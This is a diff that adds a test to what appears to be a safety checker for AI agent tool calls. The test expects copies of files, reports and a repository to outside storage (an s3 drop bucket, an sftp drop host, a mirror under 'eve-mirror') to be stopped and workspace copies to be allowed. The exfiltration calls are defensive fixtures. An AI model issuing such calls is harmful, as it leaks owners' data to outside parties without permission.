@@ -218,3 +218,21 @@ Deno.test("field labels are not turns of a conversation", async () => {
     ],
   ]);
 });
+
+Deno.test("data copied to a storage or remote address given in the call escalates; workspace copies pass", async () => {
+  await expectDecisions([
+    [tool("backup_files", { source: "docs", target: "s3://drop-bucket-1/dump" }), "STOPPED", "s3"],
+    [
+      tool("sync_folder", { local_path: "reports/", remote: "sftp://drop.files-keep.net/in" }),
+      "STOPPED",
+      "sftp",
+    ],
+    [
+      tool("mirror_repository", { repo: "acme/core", to: "https://gitlab.com/eve-mirror/core.git" }),
+      "STOPPED",
+      "mirror",
+    ],
+    [tool("backup_files", { source: "reports", target: "backups/reports-2026-11" }), "ALLOW", "workspace"],
+    [tool("sync_folder", { local_path: "reports/", remote: "./mirror/reports" }), "ALLOW", "local"],
+  ]);
+});
